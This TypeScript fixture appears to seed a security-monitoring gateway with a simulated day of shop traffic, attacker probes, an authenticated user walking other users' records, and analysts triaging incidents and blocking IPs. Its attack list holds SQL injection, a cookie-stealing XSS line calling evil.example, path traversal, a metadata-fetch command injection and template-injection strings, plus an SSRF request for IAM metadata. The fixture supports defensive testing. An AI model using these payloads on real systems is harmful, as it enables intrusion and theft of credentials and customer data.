// A day at a busy shop: many customers of many names, several APIs, a handful of people who mean no good, and a team that works
// on what was found. What the pages look like when they are full.
import type { RunningGateway } from '../run/gateway-process.ts';
import { handIn, SCANNER } from './browser.ts';

const MINUTE_MS = 60_000;
const HOSTS = [
  'shop.example.com',
  'payments-gateway.internal.eu-central-1.example.com',
  'api.배송.example.kr',
  'warehouse.example.com:8443',
];
const PLACES: readonly (readonly [method: string, path: (n: number) => string, body: (n: number) => unknown])[] = [
  ['GET', (n) => `/api/v2/customers/${n}/orders`, (n) => ({ orders: [{ id: n, total: 25_900 + n, currency: 'KRW' }] })],
  [
    'GET',
    (n) => `/api/v2/customers/${n}`,
    (n) => ({ id: n, name: NAMES[n % NAMES.length], email: `kim.minjun.${n}@example.com` }),
  ],
  [
    'POST',
    () => '/api/v2/payments/authorizations',
    (n) => ({ id: `pay_${n}`, card: '4111 1111 1111 1111', status: 'authorised' }),
  ],
  [
    'GET',
    (n) => `/api/v2/fulfilment/warehouses/seoul-gangnam-${n % 9}/shelves/${n}/inventory-adjustments`,
    (n) => [{ n }],
  ],
  [
    'GET',
    (n) => `/주문/${n}/배송상태`,
    (n) => ({ 주문번호: n, 상태: '배송 중', 주소: '서울특별시 중구 세종대로 110' }),
  ],
  ['DELETE', (n) => `/api/v2/customers/${n}/payment-methods/${n}`, () => ({ deleted: true })],
  [
    'GET',
    (n) => `/api/v1/legacy/export/customer-statements/${n}/download.csv`,
    (n) => `iban\nDE89370400440532013000\n${n}`,
  ],
];
const NAMES = [
  '김민준',
  '이서연',
  'Ann Lee',
  "Sean O'Brien",
  'Maximiliane Freifrau von Hohenstein-Wolkenburg',
  '박지훈',
];
const ATTACKS = [
  "' UNION SELECT card, ssn FROM accounts--",
  '<script>document.location="https://evil.example/c?"+document.cookie</script>',
  '../../../../../../etc/passwd',
  '; curl http://169.254.169.254/latest/meta-data/ | sh',
  '{{7*7}}${7*7}#{constructor.constructor("return process")()}',
];

export async function fillTheShop(gateway: RunningGateway): Promise<void> {
  await Promise.all([attackFromMany(gateway), readEverybody(gateway), mirror(gateway)]);
}

async function call(gateway: RunningGateway, path: string, from: string, init: RequestInit = {}): Promise<Response> {
  const headers = { 'x-forwarded-for': from, 'content-type': 'application/json', ...init.headers };
  const answer = await fetch(gateway.url + path, { ...init, headers });
  return new Response(await answer.arrayBuffer(), { status: answer.status });
}

async function attackFromMany(gateway: RunningGateway): Promise<void> {
  for (let i = 0; i < 12; i++) {
    for (const attack of ATTACKS) {
      await call(gateway, `/api/products?search=${encodeURIComponent(attack)}`, `185.220.101.${40 + i}`);
      await call(gateway, '/api/search', `2001:db8:85a3:${i}::8a2e:370:7334`, {
        method: 'POST',
        body: JSON.stringify({ query: attack }),
      });
    }
  }
  await call(gateway, '/api/fetch', SCANNER, {
    method: 'POST',
    body: JSON.stringify({ url: 'http://169.254.169.254/latest/meta-data/iam' }),
  });
  await call(gateway, '/api/admin/export', '45.155.205.233');
  await call(gateway, '/debug/vars', '45.155.205.233');
}

/** Signed in, and going through what belongs to others. */
async function readEverybody(gateway: RunningGateway): Promise<void> {
  const login = await call(gateway, '/api/login', '89.208.58.7', {
    method: 'POST',
    body: JSON.stringify({ email: 'bob@example.com', password: 'bob-password' }),
  });
  const { token } = (await login.json()) as { token: string };
  const headers = { authorization: `Bearer ${token}` };
  for (let id = 1; id <= 90; id++) {
    await call(gateway, `/api/users/${id}`, '89.208.58.7', { headers });
    if (id % 3 === 0) await call(gateway, `/api/orders/${id}`, '89.208.58.7', { headers });
  }
}

/** What passed elsewhere in the last hours, as a log shipper would hand it in. */
async function mirror(gateway: RunningGateway): Promise<void> {
  const now = Date.now();
  const lines: string[] = [];
  for (let i = 0; i < 1_400; i++) {
    const [method, path, body] = PLACES[i % PLACES.length]!;
    const host = HOSTS[(i >> 2) % HOSTS.length]!;
    const ip = `203.0.${113 - (i % 3)}.${(i % 60) + 1}`;
    lines.push(
      JSON.stringify({
        ts: new Date(now - 170 * MINUTE_MS + i * 7_000).toISOString(),
        client: { ip },
        request: {
          method,
          url: path((i * 37) % 211),
          headers: {
            host,
            'user-agent': 'ShopApp/14.2 (iPhone; iOS 19.1; ko_KR)',
            ...(i % 4 === 0 ? {} : { authorization: 'Bearer abc' }),
          },
        },
        response: {
          status: i % 31 === 0 ? 503 : 200,
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(body(i)),
        },
      }),
    );
  }
  await handIn(gateway, lines);
}

/** A team, what it wrote, and what it decided. */
export async function workOnIt(gateway: RunningGateway): Promise<void> {
  const send = (method: string, path: string, body: object): Promise<Response> =>
    gateway.api(path, { method, body: JSON.stringify(body) });
  const password = 'a long enough one';
  for (const [name, role] of [
    ['vera', 'viewer'],
    ['min-jun.kim', 'analyst'],
    ['maximiliane.hohenstein-wolkenburg@security.example.com', 'admin'],
  ])
    await send('POST', '/users', { name, role, password });
  await send('POST', '/tokens', { name: 'ci-pipeline-of-the-storefront-team', role: 'ingest' });
  await send('POST', '/tokens', { name: 'grafana', role: 'viewer' });
  const { items } = (await (await gateway.api('/incidents?limit=200')).json()) as { items: { id: string }[] };
  const statuses = ['in-progress', 'resolved', 'false-positive', 'accepted'];
  for (const [i, { id }] of items.entries()) {
    if (i % 3 !== 0) continue;
    await send('PATCH', `/incidents/${id}`, {
      status: statuses[(i / 3) % 4],
      assignee: i % 2 === 0 ? 'min-jun.kim' : '박지훈',
    });
    await send('PATCH', `/incidents/${id}`, {
      comment: '고객팀에 알렸습니다. 토큰은 폐기했고, 백엔드 수정은 화요일에 배포됩니다.',
    });
  }
  await send('PUT', '/policy-files', {
    file: 'storefront/payment-card-data-never-leaves-the-storefront.yaml',
    text: 'kind: list\nid: partners\naction: allow\nreason: Partners that call us all day\nentries: { ips: [192.0.2.0/24, 198.18.7.0/24] }\n',
  });
  for (const value of ['198.18.0.0/15', '2001:db8:bad::/48'])
    await send('POST', '/lists', { action: 'deny', kind: 'ips', entry: value });
  await send('POST', '/exceptions', {
    yaml: 'kind: exception\nid: fp-search-tutorials\ndetector: injection-sql\nmatch: { endpoint: "POST /api/search", pointer: /query }\nreason: free-text search over SQL tutorials, agreed with the storefront team\nexpires: 2027-06-30\n',
  });
  for (const [id, reason] of [
    ['185.220.101.44', '스캐너: 밤새 로그인 페이지를 두드림'],
    [
      '2001:db8:85a3:3::8a2e:370:7334',
      'Tries every kind of injection there is; see the incidents of this morning and the ticket',
    ],
  ])
    await send('POST', '/restrictions', {
      actor: { kind: 'ip', id },
      action: 'block',
      reason,
      durationSeconds: 43_200,
    });
}
